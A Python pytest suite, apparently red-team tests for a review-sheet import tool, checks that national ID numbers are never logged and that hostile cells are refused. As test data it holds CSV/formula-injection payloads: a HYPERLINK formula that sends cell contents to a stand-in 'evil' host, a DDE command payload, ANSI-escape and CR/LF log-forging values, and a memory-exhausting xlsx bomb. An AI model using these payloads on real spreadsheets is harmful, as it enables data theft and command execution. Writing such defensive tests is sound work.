"""Red team (issue 18): hostile review sheets. No raw RRN reaches the trail, logs or messages;
no formula is stored; hostile cells and files are refused quickly, nothing recorded."""

from __future__ import annotations

import resource
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from openpyxl import load_workbook

from flows.audit.reviews import check_lines
from flows.pay.credit import FORMULA_START
from tests import test_review
from tests.support.flowrun import runs
from tests.test_cli import last_line
from tests.test_review import APPROVED, PROGRAM, export, fill_xlsx, import_sheet, reviews

held, trail = test_review.held, test_review.trail  # fixtures, requested by name

pytestmark = [pytest.mark.flow, pytest.mark.usefixtures("prefect_backend")]
RRN = "941010-2171716"
DIGITS = "9410102171716"


def leaked(text: str) -> bool:
    return RRN in text or DIGITS in text or "2171716" in text


def import_one(out: Path, tmp_path: Path, cells: dict[str, Any]) -> tuple[int, str, str]:
    xlsx, _ = export(out, tmp_path / "sheets")
    filled = fill_xlsx(xlsx, tmp_path / "filled.xlsx", {APPROVED: cells})
    return import_sheet(out, filled)


def trail_text(out: Path) -> str:
    return str(reviews(out).rows()) if reviews(out).height else ""


def test_an_rrn_in_the_officer_column_never_reaches_the_trail(
    trail: tuple[Path, Path], tmp_path: Path
) -> None:
    _, out = trail
    code, _, err = import_one(out, tmp_path, {"decision": "approve", "officer": f"kim {RRN}"})
    assert not leaked(trail_text(out)), f"raw RRN recorded in the trail (exit {code})"
    assert not leaked(err)


@pytest.mark.parametrize(
    "column",
    ["decision", "revises", "application_id", "program"],
)
def test_an_rrn_in_a_refused_cell_is_not_echoed_in_the_message_or_the_log(
    trail: tuple[Path, Path], tmp_path: Path, column: str
) -> None:
    _, out = trail
    cells = {"decision": "approve", "officer": "kim", column: RRN}
    code, printed, err = import_one(out, tmp_path, cells)
    assert code == 3, err
    assert not leaked(err + printed), last_line(err)


RRN_SHAPES = [
    "941010–2171716",  # en dash
    "941010－2171716",  # full-width hyphen-minus
    "941010‐2171716",  # Unicode hyphen
    "941010.2171716",
    "941010_2171716",
    "941010-\u200b2171716",  # zero-width space inside
    "９４１０１０-２１７１７１６",  # full-width digits
    "941010 - 2171716",  # control: handled by \s*
]


@pytest.mark.parametrize("text", RRN_SHAPES)
def test_an_rrn_written_another_way_in_a_reason_is_refused(text: str) -> None:
    latest = pl.DataFrame(
        {
            "application_id": ["H1"],
            "outcome": ["HELD_FOR_REVIEW"],
            "person_key": ["k1"],
            "run_id": ["R1"],
            "reason_codes": [["PROXY_NEEDS_FAMILY_PROOF"]],
        }
    )
    newest = pl.DataFrame(
        schema={"application_id": pl.String, "review_run_id": pl.String}
        | {"decision": pl.String, "officer": pl.String, "review_ids": pl.List(pl.String)}
    )
    lines = pl.DataFrame(
        {
            "line": [2],
            "program": [PROGRAM],
            "application_id": ["H1"],
            "decision": ["approve"],
            "reason": [f"본인 {text} 확인"],
            "officer": ["kim"],
            "revises": [None],
            "formula": [None],
        },
        schema_overrides={"revises": pl.String, "formula": pl.String},
    )
    checked = check_lines(lines, latest, newest, PROGRAM)
    assert checked["fault"].to_list() == ["rrn_in_text"], f"{text!r} accepted into the trail"


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("reason", ' =HYPERLINK("http://evil/?"&A1,"click")'),  # leading space
        ("reason", '\u00a0=cmd|" /C calc"!A0'),  # leading no-break space (DDE)
        ("officer", "\n@SUM(1+1)"),  # leading newline
        ("officer", " +kim"),
    ],
    ids=["space", "nbsp-dde", "newline-at", "space-plus"],
)
def test_a_formula_behind_leading_whitespace_is_refused_not_stored(
    trail: tuple[Path, Path], tmp_path: Path, column: str, value: str
) -> None:
    _, out = trail
    cells = {"decision": "approve", "officer": "kim", "reason": "ok", column: value}
    code, _, _err = import_one(out, tmp_path, cells)
    recorded = reviews(out)
    stored = recorded[column].to_list() if recorded.height else []
    assert not any(str(v).startswith(FORMULA_START) for v in stored), (
        f"exit {code}: stored {stored!r} in the trail"
    )


def test_control_characters_in_an_officers_cell_are_refused_not_stored(
    trail: tuple[Path, Path], tmp_path: Path
) -> None:
    """A CSV sheet (Excel cannot hold them, a CSV can): ANSI escapes and a CR/LF in the
    officer and reason reach the trail and `jiwon audit explain`'s terminal output."""
    _, out = trail
    _, csv = export(out, tmp_path / "sheets")
    sheet = pl.read_csv(csv.read_bytes()[3:], infer_schema=False)
    names = {c.rsplit("(", 1)[-1].rstrip(")"): c for c in sheet.columns}
    values = {"decision": "approve", "officer": "kim\x1b[2J\x1b[31m", "reason": "ok\r\nFAKE LOG"}
    filled = sheet.with_columns(
        pl.when(pl.col(names["application_id"]) == APPROVED)
        .then(pl.lit(v))
        .otherwise(pl.col(names[k]))
        .alias(names[k])
        for k, v in values.items()
    )
    target = tmp_path / "filled.csv"
    target.write_bytes(b"\xef\xbb\xbf" + filled.write_csv().encode("utf-8"))
    code, _, _err = import_sheet(out, target, "--program", PROGRAM)
    recorded = reviews(out)
    text = "".join(
        str(v) for r in (recorded.rows() if recorded.height else []) for v in r if v is not None
    )
    assert "\x1b" not in text and "\r" not in text, f"exit {code}: control characters recorded"


def test_an_xlsx_claiming_a_huge_sheet_is_refused_quickly(tmp_path: Path) -> None:
    """A few-KB workbook with one cell at XFD3000: openpyxl's iter_rows (not read-only) builds
    every cell of the rectangle (~49 million) before jiwon looks at a row."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "review"
    sheet.append(["program", "application_id", "decision", "reason", "officer", "revises"])
    sheet["XFD3000"] = "x"
    bomb = tmp_path / "bomb.xlsx"
    book.save(bomb)
    assert bomb.stat().st_size < 20_000
    code = textwrap.dedent(
        f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
        from flows.errors import InputRejected
        from flows.inputs.review_sheet import read_sheet
        try:
            read_sheet(__import__("pathlib").Path({str(bomb)!r}))
        except InputRejected as e:
            print("refused", e)
        """
    )
    try:
        done = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, timeout=25
        )
    except subprocess.TimeoutExpired:
        pytest.fail("reading a 10 KB review sheet took more than 25 s")
    assert done.returncode == 0, done.stderr[-400:]
    _ = resource


def test_a_real_workbook_saved_with_a_csv_name_is_refused_with_one_line(
    trail: tuple[Path, Path], tmp_path: Path
) -> None:
    _, out = trail
    xlsx, _ = export(out, tmp_path / "sheets")
    filled = fill_xlsx(
        xlsx, tmp_path / "f.xlsx", {APPROVED: {"decision": "approve", "officer": "k"}}
    )
    wrong = tmp_path / "filled.csv"
    wrong.write_bytes(filled.read_bytes())
    before = runs(out).height
    code, _, err = import_sheet(out, wrong, "--program", PROGRAM)
    assert code in (2, 3), err
    assert "Traceback" not in err and runs(out).height == before
    _ = load_workbook
